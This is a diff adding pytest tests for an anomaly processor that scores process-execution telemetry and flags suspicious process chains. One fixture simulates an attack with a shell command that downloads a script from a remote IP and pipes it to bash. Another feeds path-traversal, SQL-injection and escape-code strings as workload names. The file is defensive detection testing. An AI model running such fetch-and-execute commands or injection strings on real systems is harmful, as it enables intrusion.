@@ -1,0 +1,133 @@
+"""The anomaly processor with the real scoring engine on a LanceDB directory."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
+
+from otlp_receiver.component import CreateSettings, LogBatch
+from otlp_receiver.processors.anomaly import factory
+from otlp_receiver.telemetry import Telemetry
+from procsight.confmap import ConfigError, decode, load_yaml
+
+TESTDATA = Path(__file__).parent / "testdata"
+
+
+def _value(value: Any) -> AnyValue:
+    if isinstance(value, int):
+        return AnyValue(int_value=value)
+    if isinstance(value, list):
+        result = AnyValue()
+        result.array_value.values.extend(AnyValue(string_value=v) for v in value)
+        return result
+    return AnyValue(string_value=value)
+
+
+def exec_batch(events: list[dict[str, Any]], workload: str = "web", host: str = "web-1") -> LogBatch:
+    request = ExportLogsServiceRequest()
+    resource_logs = request.resource_logs.add()
+    resource_logs.resource.attributes.extend([KeyValue(key="host.name", value=_value(host)),
+                                              KeyValue(key="procsight.workload", value=_value(workload)),
+                                              KeyValue(key="service.name", value=_value("procsight-agent"))])
+    scope = resource_logs.scope_logs.add()
+    for event in events:
+        record = scope.log_records.add(event_name="process.exec", severity_number=9, severity_text="INFO")
+        record.body.string_value = event["process.command_line"]
+        record.attributes.extend(KeyValue(key=k, value=_value(v)) for k, v in event.items())
+    return LogBatch(logs=request, tenant="default", batch_id="b-1-1")
+
+
+def process_exec(name: str, line: str, pid: int, ppid: int, parent: str = "", path: str = "") -> dict[str, Any]:
+    event = {"process.executable.name": name, "process.command_line": line, "process.command_args": line.split(),
+             "process.pid": pid, "process.parent_pid": ppid, "process.user.id": 33,
+             "process.executable.path": path or f"/usr/bin/{name}"}
+    if parent:
+        event["process.parent.executable.name"] = parent
+    return event
+
+
+def attributes(record: Any) -> dict[str, Any]:
+    result = {}
+    for kv in record.attributes:
+        kind = kv.value.WhichOneof("value")
+        value = getattr(kv.value, kind)
+        result[kv.key] = [v.string_value for v in value.values] if kind == "array_value" else value
+    return result
+
+
+@pytest.fixture
+def processor(tmp_path: Path):  # type: ignore[no-untyped-def]
+    config = decode(factory.Config, load_yaml(TESTDATA / "anomaly.yaml", {"BASELINES": str(tmp_path / "b")}))
+    telemetry = Telemetry()
+    created = factory.create(config, CreateSettings("anomaly", tmp_path, telemetry))
+    created.start()
+    yield created
+    created.shutdown()
+
+
+def test_shell_under_nginx_through_sh_c_gets_ancestors_reasons_and_raised_severity(processor) -> None:  # type: ignore[no-untyped-def]
+    normal = [process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd") for i in range(30)]
+    processor.process(exec_batch(normal))
+    attack = exec_batch([
+        process_exec("sh", "sh -c cd /tmp; curl -s http://203.0.113.9/x | bash", 500, 100, parent="nginx",
+                     path="/bin/sh"),
+        process_exec("bash", "bash", 502, 500, path="/bin/bash"),
+    ])
+    processor.process(attack)
+    records = list(attack.logs.resource_logs[0].scope_logs[0].log_records)
+    shell = attributes(records[1])
+    assert shell["process.ancestors"] == ["sh", "nginx", "systemd"]  # nginx (pid 100) ran under pid 1
+    assert any("nginx" in reason for reason in shell["anomaly_reasons"]), shell["anomaly_reasons"]
+    assert shell["anomaly_severity"] in ("warn", "alert")
+    assert records[1].severity_number >= 13 and records[1].severity_text in ("WARN", "ERROR")
+    assert shell["anomaly_workload"] == "web" and shell["anomaly_model"]
+    assert attack.embeddings.shape[0] == 2 and abs(float((attack.embeddings[1] ** 2).sum()) - 1.0) < 1e-3
+
+
+def test_routine_events_score_low_and_keep_their_severity(processor) -> None:  # type: ignore[no-untyped-def]
+    routine = [process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd") for i in range(40)]
+    processor.process(exec_batch(routine))
+    again = exec_batch([process_exec("nginx", "nginx -g daemon off;", 999, 1, parent="systemd")])
+    processor.process(again)
+    record = again.logs.resource_logs[0].scope_logs[0].log_records[0]
+    assert attributes(record)["anomaly_score"] < 0.05
+    assert attributes(record)["anomaly_severity"] == "none"
+    assert record.severity_number == 9 and record.severity_text == "INFO"
+
+
+def test_non_process_records_pass_through_unscored_and_counted(processor) -> None:  # type: ignore[no-untyped-def]
+    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
+    plain = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
+    plain.body.string_value = "GET /healthz 200"
+    processor.process(batch)
+    assert "anomaly_score" not in attributes(plain)
+    assert not batch.embeddings[1].any()
+    kinds = processor._kinds
+    assert kinds.value(kind="unrecognised") == 1 and kinds.value(kind="agent") == 1
+
+
+def test_rescoring_a_replayed_record_does_not_duplicate_attributes(processor) -> None:  # type: ignore[no-untyped-def]
+    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
+    processor.process(batch)
+    processor.process(batch)
+    keys = [kv.key for kv in batch.logs.resource_logs[0].scope_logs[0].log_records[0].attributes]
+    assert keys.count("anomaly_score") == 1
+
+
+def test_hostile_workload_names_are_bounded_and_kept_apart(processor) -> None:  # type: ignore[no-untyped-def]
+    for workload in ("../../etc/passwd", "'; DROP TABLE x; --", "\x00\x1b[31m", "w" * 5000):
+        batch = exec_batch([process_exec("ls", "ls", 5, 1)], workload=workload)
+        processor.process(batch)
+        scored = attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
+        assert scored["anomaly_workload"] == workload[:256]
+
+
+def test_config_errors_name_the_key(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="workload_key"):
+        decode(factory.Config, {"workload_key": []}, "processors.anomaly")
+    with pytest.raises(ConfigError, match=r"processors\.anomaly\.k"):
+        decode(factory.Config, {"k": "ten"}, "processors.anomaly")
